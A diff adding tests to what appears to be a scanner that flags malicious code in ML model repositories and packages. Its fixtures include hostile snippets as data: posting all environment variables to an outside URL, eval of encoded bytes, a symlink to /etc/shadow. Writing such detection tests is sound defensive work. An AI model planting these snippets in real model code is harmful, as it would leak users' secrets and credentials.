@@ -750,3 +750,46 @@ def test_a_module_that_a_configuration_beside_it_names_is_imported(namer):
     ask = b"import subprocess\nsubprocess.run(['nvidia-smi'])\n"
     seen = collect(scope({namer: file(namer, NAMERS[namer]), "net_ext.py": file("net_ext.py", ask)}))
     assert "high" not in [each.severity.value for each in judged(seen) if each.rule == "MLG-HFR-004"]
+
+
+MAPPED = {"config.json": b'{"model_type": "x", "auto_map": {"AutoModel": "modeling_x.X"}}'}
+
+
+@pytest.mark.parametrize(
+    ("body", "severity"),
+    [
+        (
+            "def __init__(self):\n    self._a()\n  def _a(self):\n    self._b()\n  def _b(self):\n    os.system('true')",
+            "high",
+        ),
+        ("def __init__(self):\n    pass\n  def _b(self):\n    os.system('true')", None),
+        ("def __init__(self):\n    requests.post('https://x', json=dict(os.environ))", "high"),
+        ("def __init__(self):\n    requests.post('https://x', json={**os.environ})", "high"),
+        ("def __init__(self):\n    requests.post('https://x', headers={'k': os.environ['TOKEN']})", None),
+        ("def __init__(self):\n    eval(bytes([112, 97]).decode())", "high"),
+    ],
+)
+def test_what_methods_of_a_mapped_class_do(body, severity):
+    source = f"import os, shutil, requests\nclass X:\n  {body}\n".encode()
+    found = judged(collect(scope({**MAPPED, "modeling_x.py": source})))
+    grades = [each.severity.value for each in found if each.rule == "MLG-HFR-004"]
+    assert grades == ([severity] if severity else [])
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "import pathlib\npathlib.Path('/tmp/x').symlink_to('/etc/shadow')\n",
+        "import sqlite3\nsqlite3.connect('/root/x')\n",
+        "import tarfile\nt = tarfile.open('/root/x', 'w')\n",
+    ],
+)
+def test_files_that_are_made_on_import(source):
+    assert [each.severity.value for each in judged(look(source.encode(), "modeling_x.py"))] == ["high"]
+
+
+def test_the_package_of_a_pipeline_of_spacy_and_the_source_in_a_package_of_torch():
+    files = {"p/meta.json": b'{"lang": "en", "spacy_version": ">=3.8"}', "p/__init__.py": ACTS}
+    assert "high" in {each.severity.value for each in judged(collect(scope(files)))}
+    package = zipped(Entry("x/m.py", ACTS), Entry("x/.data/version", b"1"))
+    assert "high" in {each.severity.value for each in judged(look(package, "x.pt"))}
